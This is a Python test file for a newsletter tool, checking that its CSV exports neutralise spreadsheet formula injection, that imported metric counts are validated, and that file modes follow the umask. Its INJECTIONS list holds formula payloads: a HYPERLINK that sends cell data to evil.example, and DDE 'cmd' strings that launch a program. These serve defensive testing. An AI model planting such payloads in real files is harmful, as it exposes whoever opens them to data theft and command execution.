"""What spfcomms writes for others to open: CSV cells, stored counts, file modes
(issue cases 13 to 15)."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from .conftest import REPO
from .support.cli import run
from .support.workspace import ISSUE, NEWS, make_workspace

INJECTIONS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


@pytest.fixture
def hostile_titles(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace whose issue and item titles are spreadsheet formulas."""
    items = {f"i{n}": NEWS.format(id=f"item-{n}") for n in range(len(INJECTIONS))}
    files = {
        f"issues/2024-01/{name}.md": text.replace(
            'title = "A news story"', f"title = {json.dumps(title)}"
        )
        for (name, text), title in zip(items.items(), INJECTIONS, strict=True)
    }
    listed = json.dumps(list(items))
    files["issues/2024-01/issue.toml"] = ISSUE.format(items=listed).replace(
        'title = "January 2024"', f"title = {json.dumps(INJECTIONS[0])}"
    )
    root = make_workspace(tmp_path / "ws", files)
    monkeypatch.chdir(root)
    return root


def cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from row


def assert_neutralised(text: str) -> None:
    found = set(cells(text))
    for formula in INJECTIONS:
        assert formula not in found
    assert not [c for c in found if c[:1] in ("=", "+", "@", "\t", "\r")]


# Case 13: CSV formula injection


def test_the_audit_csvs_hold_no_formulas(
    hostile_titles: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(capsys, "report")[0] == 0
    items = (hostile_titles / "_audit" / "items.csv").read_text("utf-8")
    issues = (hostile_titles / "_audit" / "issues.csv").read_text("utf-8")
    assert_neutralised(items)
    assert_neutralised(issues)
    # The text is kept, only made inert.
    assert {"'" + title for title in INJECTIONS} <= set(cells(items))
    assert "'" + INJECTIONS[0] in set(cells(issues))


def test_metrics_show_csv_holds_no_formulas(
    hostile_titles: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    log = hostile_titles / "access.log"
    log.write_text(
        '203.0.113.9 - - [16/Jan/2024:10:00:00 +0000] "GET /bulletin/issues/2024-01/ '
        'HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"\n',
        encoding="utf-8",
    )
    assert run(capsys, "metrics", "import", str(log), "-q")[0] == 0
    for extra in ([], ["--items"]):
        code, out, _ = run(capsys, "metrics", "show", "--csv", *extra)
        assert code == 0
        assert_neutralised(out)
    assert "'" + INJECTIONS[0] in set(cells(run(capsys, "metrics", "show", "--csv")[1]))


def test_the_csv_helper_follows_owasp_and_leaves_numbers_alone() -> None:
    from spfcomms.output.csvfile import csv_text, safe_cell

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    for number in ("-43", "+1.5", "-0.25", "1e5", "12"):
        assert safe_cell(number) == number
    assert safe_cell(-43) == -43 and safe_cell("plain") == "plain"
    text = csv_text(["a", "=b"], [["=1+1", -2, "x"]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "'=b"], ["'=1+1", "-2", "x"]]


def test_no_csv_is_written_but_through_the_helper() -> None:
    # A new CSV writer that forgets the helper would let formulas through again.
    helper = REPO / "spfcomms" / "output" / "csvfile.py"
    offenders = []
    for path in sorted((REPO / "spfcomms").rglob("*.py")):
        if path == helper:
            continue
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert offenders == []


# Case 14: counts are integers within a sane bound, and consistent


@pytest.fixture
def repo_store(repo_workspace: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(repo_workspace)
    return repo_workspace


def _stored(capsys: pytest.CaptureFixture[str]) -> str:
    code, out, err = run(capsys, "metrics", "show", "--json")
    return out if code == 0 else err


def test_a_huge_count_is_refused_not_stored_as_an_imprecise_float(
    repo_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    report = json.loads((REPO / "examples/metrics/mailchimp-2023-06.json").read_text("utf-8"))
    report["emails_sent"] = 99999999999999999999999999
    path = repo_store / "huge.json"
    path.write_text(json.dumps(report), encoding="utf-8")
    code, _, err = run(capsys, "metrics", "import", str(path))
    assert code == 1
    assert "huge.json" in err and "emails_sent" in err
    assert "larger than any real count (the limit is 1,000,000,000)" in err
    assert "Traceback" not in err
    assert "is empty" in _stored(capsys)


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("Total Bounces", "5000", "bounces (5,000) is more than emails sent (4,210)"),
        ("Hard Bounces", "5000", "hard bounces (5,000) is more than bounces (64)"),
        ("Unique Opens", "4200", "unique opens (4,200) is more than delivered (4,146)"),
        (
            "Total Recipients",
            "99999999999999999999999999",
            "99,999,999,999,999,999,999,999,999 is larger than any real count",
        ),
    ],
)
def test_inconsistent_figures_are_an_import_error_at_their_line(
    repo_store: Path, capsys: pytest.CaptureFixture[str], column: str, value: str, message: str
) -> None:
    # Mailchimp's own Reports export, its June row made inconsistent.
    export = REPO / "examples" / "metrics" / "mailchimp-reports-2023.csv"
    rows = list(csv.reader(io.StringIO(export.read_text("utf-8"))))
    rows[1][rows[0].index(column)] = value
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path = repo_store / "broken.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    code, _, err = run(capsys, "metrics", "import", str(path))
    assert code == 1
    assert "broken.csv:2: " in err and message in err
    assert "Traceback" not in err
    assert "is empty" in _stored(capsys)


# Case 15: files keep their mode; new ones follow the umask


@pytest.fixture
def umask_022() -> Iterator[None]:
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_new_files_follow_the_umask(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_workspace(tmp_path / "ws", {"issues/.keep": ""})
    monkeypatch.chdir(root)
    previous = os.umask(0o002)
    try:
        assert run(capsys, "new", "2024-02")[0] == 0
    finally:
        os.umask(previous)
    created = sorted((root / "issues" / "2024-02").iterdir())
    assert [(p.name, _mode(p)) for p in created] == [
        ("issue.toml", 0o664),
        ("news-2024-02-february.md", 0o664),
    ]


def test_an_import_keeps_the_mode_of_issue_toml_and_new_items_follow_the_umask(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    umask_022: None,
) -> None:
    root = make_workspace(tmp_path / "ws", {"issues/2024-01/issue.toml": ISSUE.format(items="[]")})
    monkeypatch.chdir(root)
    issue = root / "issues" / "2024-01" / "issue.toml"
    issue.chmod(0o640)
    source = tmp_path / "story.txt"
    source.write_text("Partnership pays off\n\nA trust and its unions agreed a rota.\n", "utf-8")
    assert run(capsys, "import", str(source), "--into", "2024-01", "--kind", "news")[0] == 0
    assert _mode(issue) == 0o640
    [item] = [p for p in issue.parent.iterdir() if p.suffix == ".md"]
    assert _mode(item) == 0o644
